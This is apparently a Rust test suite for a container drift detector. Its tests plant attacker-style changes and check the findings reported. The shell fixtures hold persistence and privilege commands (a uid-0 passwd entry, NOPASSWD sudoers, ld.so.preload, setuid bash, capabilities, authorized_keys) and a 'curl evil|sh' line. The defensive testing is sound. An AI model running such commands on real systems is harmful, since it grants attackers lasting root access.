//! Changes that an attacker or an operator makes in a container, each with the findings that
//! it must cause. Each test also asserts that nothing else is reported.

use anyhow::ensure;
use libtest_mimic::Trial;

use crate::node::{Node, only, wait_for};
use crate::sessions::{self, User};
use crate::{programs, test};

pub(crate) fn tests() -> Vec<Trial> {
    vec![
        test("a01_dropped_program_is_added_then_new", a01_added_then_new),
        test("a01_dropped_and_run_at_once_is_one_finding", a01_at_once),
        test("a02_copied_program_is_relocated", a02_copy),
        test("a04_overwritten_program_is_modified", a04_overwritten),
        test("a04_older_times_change_nothing", a04_with_older_times),
        test("a05_one_byte_patch_is_modified", a05_one_byte),
        test("a06_renamed_over_is_modified", a06_renamed_over),
        test("a07_script_is_the_subject_not_its_shell", a07_script),
        test("a14_running_and_deleted_is_new_and_deleted", a14_deleted),
        test("a18_preloaded_library_is_persistence", a18_preload),
        test("a20_symlink_is_followed_to_the_file", a20_symlink),
        test("a21_hard_link_of_an_image_program_is_relocated", a21_hard_link),
        test("a22_moved_program_is_removed_and_relocated", a22_moved),
        test("a23_removed_tools_are_reported", a23_removed),
        test("a24_setuid_is_privileged", a24_setuid),
        test("a25_file_capability_is_privileged", a25_capability),
        test("a25_rights_of_new_linked_and_moved_files", a25_other_ways),
        test("a34_files_that_other_programs_run_or_read_are_persistence", a34_persistence),
        test("a35_changed_entry_point_is_reported_and_runs_at_the_next_start", a35_entry_point),
        test("a_stopped_containers_snapshot_can_be_removed", a_removed_snapshot),
        test("a28_exec_with_terminal_is_one_interactive_session", a28_interactive),
        test("a29_exec_without_terminal_is_an_exec_session", a29_exec),
        test("a45_drift_in_one_container_never_marks_another", a45_two_containers),
        test("a_thousand_short_executions_are_all_counted", a_thousand_executions),
    ]
}

fn a01_added_then_new(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.lay_payload("x")?;
    container.sh("cat /.control/x > /tmp/x; chmod +x /tmp/x")?;
    let findings = container.expect_findings(&["low file.added /tmp/x"])?;
    let added = only(&findings, "file.added")?;
    // A scan that finds it again has nothing to add.
    assert_eq!((&added["count"], &added["revision"]), (&1.into(), &1.into()), "{added:#}");
    let added = added["id"].clone();

    container.sh("/tmp/x")?;
    let findings =
        container.expect_findings(&["low file.added /tmp/x", "critical exec.new /tmp/x"])?;
    let run = only(&findings, "exec.new")?;
    assert_eq!(run["story"], added, "{run:#}");
    assert_eq!(run["file"]["blake3"], only(&findings, "file.added")?["file"]["blake3"]);
    assert_eq!(run["count"], 1, "{run:#}");
    assert_eq!(run["attack"]["technique"], "T1059");
    assert_eq!(run["image"]["name"], programs::WORKBENCH);
    assert_eq!(run["expected"], serde_json::Value::Null);
    ensure!(run["process"]["pid"].as_u64() > Some(0), "{run:#}");
    ensure!(run["file"]["sha256"].as_str().is_some_and(|hash| hash.len() == 64), "{run:#}");
    Ok(())
}

fn a01_at_once(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.lay_payload("x")?;
    container.sh("cat /.control/x > /tmp/x; chmod +x /tmp/x; /tmp/x")?;
    container.expect_findings(&["critical exec.new /tmp/x"]).map(drop)
}

fn a02_copy(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("cp /bin/ls /bin/.cache-ls; /bin/.cache-ls")?;
    let findings = container.expect_findings(&["medium exec.relocated /bin/.cache-ls"])?;
    let relocated = only(&findings, "exec.relocated")?;
    assert_eq!(relocated["expected"]["path"], "/bin/ls", "{relocated:#}");
    assert_eq!(relocated["expected"]["blake3"], relocated["file"]["blake3"]);
    Ok(())
}

fn a04_overwritten(node: &Node) -> anyhow::Result<()> {
    overwrite_curl(node, "")
}

fn a04_with_older_times(node: &Node) -> anyhow::Result<()> {
    overwrite_curl(node, "/usr/bin/touch -r /bin/sh /usr/bin/curl")
}

fn overwrite_curl(node: &Node, afterwards: &str) -> anyhow::Result<()> {
    let container = node.container()?;
    container.lay_payload("x")?;
    container.sh(&format!("cat /.control/x > /usr/bin/curl\n{afterwards}"))?;
    let findings = container.expect_findings(&["medium file.modified /usr/bin/curl"])?;
    let modified = only(&findings, "file.modified")?.clone();
    assert_eq!(modified["expected"]["path"], "/usr/bin/curl");
    assert_ne!(modified["expected"]["blake3"], modified["file"]["blake3"]);

    container.sh("/usr/bin/curl http://x")?;
    let findings = container.expect_findings(&[
        "medium file.modified /usr/bin/curl",
        "critical exec.modified /usr/bin/curl",
    ])?;
    assert_eq!(only(&findings, "exec.modified")?["story"], modified["id"]);
    Ok(())
}

fn a05_one_byte(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    // Whether the patched program still works does not matter.
    container.sh("printf '\\220' | dd of=/usr/sbin/nginx bs=1 seek=4096 conv=notrunc\n\
         /usr/sbin/nginx -v || true")?;
    let findings = container.expect_findings(&["critical exec.modified /usr/sbin/nginx"])?;
    let modified = only(&findings, "exec.modified")?;
    assert_eq!(modified["file"]["size"], modified["expected"]["size"], "{modified:#}");
    Ok(())
}

fn a06_renamed_over(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("cp /usr/bin/python3 /tmp/p; printf x >> /tmp/p\n\
         mv /tmp/p /usr/bin/python3; /usr/bin/python3")?;
    container.expect_findings(&["critical exec.modified /usr/bin/python3"]).map(drop)
}

fn a07_script(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("echo '#!/bin/sh' > /tmp/s; echo true >> /tmp/s; chmod +x /tmp/s; /tmp/s")?;
    let findings = container.expect_findings(&["high exec.script /tmp/s"])?;
    assert_eq!(only(&findings, "exec.script")?["file"]["type"], "script");
    Ok(())
}

fn a14_deleted(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.lay_payload("x")?;
    container.sh("cp /.control/x /tmp/x; /tmp/x 3000 & sleep 0.2; rm /tmp/x")?;
    let findings = container.expect_findings(&["critical exec.new /tmp/x"])?;
    let run = only(&findings, "exec.new")?;
    assert_eq!(run["file"]["deleted"], true, "{run:#}");
    Ok(())
}

fn a20_symlink(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.lay_payload("x")?;
    container.sh("cp /.control/x /tmp/x; ln -sf /tmp/x /usr/local/bin/kubectl; kubectl 500")?;
    let findings = container.expect_findings(&["critical exec.new /tmp/x"])?;
    let run = only(&findings, "exec.new")?;
    assert_eq!(run["invoked_as"], "/usr/local/bin/kubectl", "{run:#}");
    Ok(())
}

fn a21_hard_link(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("ln /bin/busybox /tmp/sh2; /tmp/sh2 sh -c true || true")?;
    container.expect_findings(&["high exec.relocated /tmp/sh2"]).map(drop)
}

fn a22_moved(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("mv /usr/bin/wget /usr/bin/.w; /usr/bin/.w http://x")?;
    container
        .expect_findings(&["low file.removed /usr/bin/wget", "medium exec.relocated /usr/bin/.w"])
        .map(drop)
}

fn a23_removed(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("rm -f /usr/bin/auditctl /usr/sbin/tcpdump")?;
    container
        .expect_findings(&[
            "medium file.removed /usr/bin/auditctl",
            "medium file.removed /usr/sbin/tcpdump",
        ])
        .map(drop)
}

fn a24_setuid(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("chmod u+s /bin/bash")?;
    let findings = container.expect_findings(&["high file.privileged /bin/bash"])?;
    let privileged = only(&findings, "file.privileged")?;
    assert_eq!(privileged["file"]["mode"], "4755", "{privileged:#}");
    assert_eq!(privileged["expected"]["mode"], "0755");
    assert_eq!(privileged["file"]["blake3"], privileged["expected"]["blake3"]);
    Ok(())
}

fn a25_capability(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("/usr/sbin/setcap cap_net_raw,cap_setuid+ep /usr/bin/python3")?;
    let findings = container.expect_findings(&["high file.privileged /usr/bin/python3"])?;
    let privileged = only(&findings, "file.privileged")?;
    assert_eq!(privileged["file"]["capability"], "cap_setuid,cap_net_raw=ep", "{privileged:#}");
    assert_eq!(privileged["expected"]["capability"], serde_json::Value::Null);
    Ok(())
}

fn a25_other_ways(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("mkdir /tmp/d; cp /bin/ls /tmp/l; chmod 4755 /tmp/l\n\
         ln /tmp/l /tmp/m; mv /tmp/l /tmp/d/n")?;
    let wanted = ["high file.privileged /tmp/d/n", "high file.privileged /tmp/m"];
    // One content is one relocation, at whichever path it was seen first.
    let first = wait_for("the relocation", || {
        let findings = container.findings()?;
        let found = findings.iter().find(|finding| finding["kind"] == "file.relocated").cloned();
        Ok(found.filter(|finding| finding["files"] == 2))
    })?;
    let relocated =
        format!("info file.relocated {}", first["file"]["path"].as_str().unwrap_or("?"));
    container.expect_findings(&[wanted[0], wanted[1], &relocated]).map(drop)
}

fn a18_preload(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("echo /tmp/evil.so > /etc/ld.so.preload")?;
    let findings = container.expect_findings(&["high file.persistence /etc/ld.so.preload"])?;
    let preload = only(&findings, "file.persistence")?;
    ensure!(preload["file"]["blake3"].is_string(), "{preload:#}");
    assert_eq!(preload["attack"]["technique"], "T1546");
    Ok(())
}

fn a34_persistence(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("mkdir -p /etc/cron.d /root/.ssh /etc/profile.d /etc/sudoers.d\n\
         mkdir -p /etc/systemd/system/x.target.wants\n\
         echo '* * * * * root /tmp/x' > /etc/cron.d/a\n\
         echo 'ssh-ed25519 AAAA' > /root/.ssh/authorized_keys\n\
         echo 'alias ls=/tmp/x' > /etc/profile.d/x.sh\n\
         echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app\n\
         echo '[Service]' > /etc/systemd/system/x.service\n\
         ln -s ../x.service /etc/systemd/system/x.target.wants/x.service\n\
         echo 'evil::0:0::/:/bin/sh' >> /etc/passwd\n\
         cp /etc/group /tmp/g; cat /tmp/g > /etc/group")?;
    let findings = container.expect_findings(&[
        "high file.persistence /etc/cron.d/a",
        "high file.persistence /root/.ssh/authorized_keys",
        "high file.persistence /etc/profile.d/x.sh",
        "high file.persistence /etc/sudoers.d/app",
        "high file.persistence /etc/systemd/system/x.service",
        "high file.persistence /etc/systemd/system/x.target.wants/x.service",
        "high file.persistence /etc/passwd",
    ])?;
    let users = findings.iter().find(|finding| finding["file"]["path"] == "/etc/passwd");
    ensure!(users.is_some_and(|users| users["expected"]["blake3"].is_string()), "{users:#?}");
    Ok(())
}

fn a35_entry_point(node: &Node) -> anyhow::Result<()> {
    let container = node.container_with_entry_point()?;
    // If the container was marked late, the script that init runs is examined a moment later.
    // Until then it must be the image's.
    std::thread::sleep(crate::node::SETTLE);
    container.diff()?;
    container.sh("echo '# curl evil|sh' >> /docker-entrypoint.sh")?;
    let changed = [
        "medium file.modified /docker-entrypoint.sh",
        "high file.persistence /docker-entrypoint.sh",
    ];
    container.expect_findings(&changed)?;
    // A container that is not yet marked when its entry point runs is seen at the
    // next start.
    let expected = [&changed[..], &["high exec.script /docker-entrypoint.sh"]].concat();
    for _ in 0..5 {
        container.stop()?;
        container.start_again()?;
        std::thread::sleep(crate::node::SETTLE);
        if container.findings()?.iter().any(|finding| finding["kind"] == "exec.script") {
            break;
        }
    }
    container.expect_findings(&expected).map(drop)
}

fn a_removed_snapshot(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("mkdir -p /srv/a/b; echo x > /srv/a/b/c; chmod 700 /srv/a/b/c")?;
    container.stop()?;
    node.ctr(&["container", "rm", &container.id])?;
    let left = node.ctr(&["snapshots", "ls"])?;
    ensure!(!left.contains(&container.id), "{left}");
    Ok(())
}

fn a28_interactive(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    let mut user = User::in_container(&container, "user")?;
    // Sub-shells and a second shell in it are the same session.
    user.types("/bin/ls /\n(cat /etc/passwd)\n/bin/bash -c 'ls; true'\n")?;
    std::thread::sleep(std::time::Duration::from_secs(1));
    user.types("exec /bin/bash\nexit\n")?;
    let findings = container.expect_findings(&["medium session.interactive"])?;
    let session = only(&findings, "session.interactive")?;
    ensure!(session["process"]["tty"].as_str().is_some_and(|tty| tty.starts_with("pts/")));
    assert_eq!(session["file"], serde_json::Value::Null);
    assert_eq!(session["attack"]["technique"], "T1609");
    Ok(())
}

fn a29_exec(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    sessions::run(&container, &["--exec-id", "copy"], &["/bin/cat", "/etc/passwd"])?;
    let findings = container.expect_findings(&["info session.exec"])?;
    let session = only(&findings, "session.exec")?;
    assert_eq!(session["process"]["tty"], serde_json::Value::Null, "{session:#}");
    Ok(())
}

fn a45_two_containers(node: &Node) -> anyhow::Result<()> {
    let (drifting, faithful) = (node.container()?, node.container()?);
    drifting.lay_payload("x")?;
    // Run after it was reported, so that there are two findings however busy the machine is.
    drifting.sh("cp /.control/x /tmp/x")?;
    drifting.expect_findings(&["low file.added /tmp/x"])?;
    drifting.sh("/tmp/x")?;
    faithful.sh("/bin/ls / >/dev/null; /usr/bin/app")?;
    drifting.expect_findings(&["low file.added /tmp/x", "critical exec.new /tmp/x"])?;
    faithful.expect_silence()
}

fn a_thousand_executions(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.lay_payload("x")?;
    container
        .begin(
            "cp /.control/x /tmp/x; i=0\n\
             while [ $i -lt 1000 ]; do /tmp/x; i=$((i+1)); done",
        )?
        .finish(std::time::Duration::from_secs(120))?;
    container.counted("exec.new", 1000)?;
    let findings = container.expect_findings(&["critical exec.new /tmp/x"])?;
    let run = only(&findings, "exec.new")?;
    assert_eq!(run["count"], 1000, "{run:#}");
    let mark = format!("{} {} x", node.namespace, container.id);
    let content = crate::node::bench()?.payload.marked(&mark);
    assert_eq!(run["file"]["blake3"], blake3::hash(&content).to_hex().as_str());
    Ok(())
}
